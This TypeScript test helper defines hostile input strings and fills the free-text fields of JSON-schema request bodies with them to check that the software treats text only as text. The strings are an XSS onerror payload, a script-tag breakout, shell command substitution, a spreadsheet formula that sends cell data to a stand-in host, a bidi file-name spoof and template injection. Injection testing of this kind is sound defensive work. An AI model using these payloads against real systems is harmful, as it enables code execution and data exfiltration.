/** Each would do something where text is taken for more than text; run code calls itself by setting `ran`. */
export const hostileTexts = {
  image: '<img src=x onerror="window.ran=1">',
  script: '</script><script>window.ran=1</script>',
  shell: '$(touch /tmp/ran); `touch /tmp/ran`',
  formula: '=HYPERLINK("http://elsewhere.example/?"&A1;"klik")',
  direction: '\u202Egnp.exe\u202C\u2066\u200F ab',
  braces: `{{label}} $t(loading) \${window.ran=1} {{constructor}}`,
  long: 'W'.repeat(10_240),
} as const

type Schema = {
  type?: string
  anyOf?: Schema[]
  items?: Schema | Schema[]
  properties?: Record<string, Schema>
  pattern?: string
  format?: string
  enum?: readonly unknown[]
  const?: unknown
  maxLength?: number
  required?: string[]
}

/** A place for a string in a body: the names on the way to it. */
type Place = { path: string[]; maxLength: number | undefined; isFree: boolean }

/** Every place where a body may hold a string. Free: any text is allowed, up to its length. */
export function stringsOf(given: unknown, path: string[] = []): Place[] {
  const schema = given as Schema
  if (schema.anyOf) return schema.anyOf.flatMap(each => stringsOf(each, path))
  if (schema.properties)
    return Object.entries(schema.properties).flatMap(([name, each]) => stringsOf(each, [...path, name]))
  if (Array.isArray(schema.items))
    return schema.items.flatMap((each, order) => stringsOf(each, [...path, String(order)]))
  if (schema.items) return stringsOf(schema.items, [...path, '0'])
  const words = schema.enum ?? (schema.const === undefined ? [] : [schema.const])
  const isClosed = words.some(word => typeof word === 'string')
  if (schema.type !== 'string' && !isClosed) return []
  const isFree = !isClosed && schema.pattern === undefined && schema.format === undefined
  return [{ path, maxLength: schema.maxLength, isFree }]
}

/** The body with the text in every free place, as long as is allowed there. */
export function filled(body: unknown, schema: unknown, text: string): unknown {
  const made = stringsOf(schema)
    .filter(({ isFree }) => isFree)
    .reduce((made, { path, maxLength }) => withText(made, path, text.slice(0, maxLength)), body)
  return whole(made, schema as Schema)
}

/** Objects that were made for a text get what else must be in them: null, where that is allowed. */
function whole(value: unknown, schema: Schema): unknown {
  if (typeof value !== 'object' || value === null || Array.isArray(value) || !schema.properties) return value
  const { properties, required = [] } = schema
  const known = value as Record<string, unknown>
  const isNullable = (name: string) => properties[name]?.anyOf?.some(({ type }) => type === 'null') === true
  const absent = required.filter(name => known[name] === undefined && isNullable(name))
  return {
    ...Object.fromEntries(absent.map(name => [name, null])),
    ...Object.fromEntries(
      Object.entries(known).map(([name, each]) => [name, whole(each, properties[name] ?? {})]),
    ),
  }
}

/** The body with the text in one place; what is missing on the way there is made. */
export function withText(body: unknown, [name, ...rest]: string[], text: string): unknown {
  if (name === undefined) return text
  if (/^\d+$/.test(name)) {
    const list = Array.isArray(body) ? [...body] : []
    list[Number(name)] = withText(list[Number(name)], rest, text)
    return list
  }
  const object = typeof body === 'object' && body !== null ? body : {}
  return { ...object, [name]: withText((object as Record<string, unknown>)[name], rest, text) }
}
